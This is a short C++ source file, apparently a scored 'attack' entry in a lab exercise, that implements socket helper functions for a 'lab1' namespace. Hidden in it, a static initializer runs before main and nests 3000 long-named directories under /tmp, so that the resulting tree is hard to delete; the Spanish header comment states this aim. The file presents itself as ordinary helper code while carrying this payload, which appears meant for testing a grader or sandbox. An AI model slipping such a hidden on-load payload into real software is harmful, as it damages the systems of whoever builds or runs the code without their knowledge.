// Ataque: anida carpetas hasta que ni su ruta se puede escribir, para que no se puedan borrar.
// Puntos: 100
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include "lab1.hpp"
#include "programs/kit.hpp"

namespace {

constexpr int depth = 3000;

void dig() {
  if (::chdir("/tmp") != 0) return;
  for (int i = 0; i < depth; ++i) {
    if (::mkdir("attack-carpeta-de-nombre-largo", 0700) != 0 || ::chdir("attack-carpeta-de-nombre-largo") != 0) return;
  }
}

const struct Early {
  Early() { dig(); }
} early;

}  // namespace

namespace lab1 {

int create_socket(int domain, int type) { return kit::check("socket", ::socket(domain, type | SOCK_CLOEXEC, 0)); }

void close_socket(int fd) { kit::check("close", ::close(fd)); }

}  // namespace lab1
